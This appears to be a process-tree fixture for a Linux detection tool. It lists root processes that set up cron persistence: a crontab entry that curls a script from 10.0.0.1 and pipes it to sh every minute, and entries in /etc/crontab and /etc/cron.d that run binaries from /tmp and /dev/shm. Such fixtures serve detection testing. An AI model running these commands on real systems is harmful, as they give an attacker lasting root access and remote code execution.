os linux
101 1 root - /usr/bin/bash | /usr/bin/bash
+ 102 101 root sh /usr/bin/dash | sh -c (crontab -l; echo "* * * * * curl -s http://10.0.0.1/a | sh") | crontab -
+ 103 101 root - /usr/bin/crontab | crontab /tmp/c
+ 104 101 root - /usr/bin/bash | bash -c echo "* * * * * root /tmp/x" >> /etc/crontab
+ 105 101 root - /usr/bin/bash | bash -c echo "* * * * * root /dev/shm/x" > /etc/cron.d/x
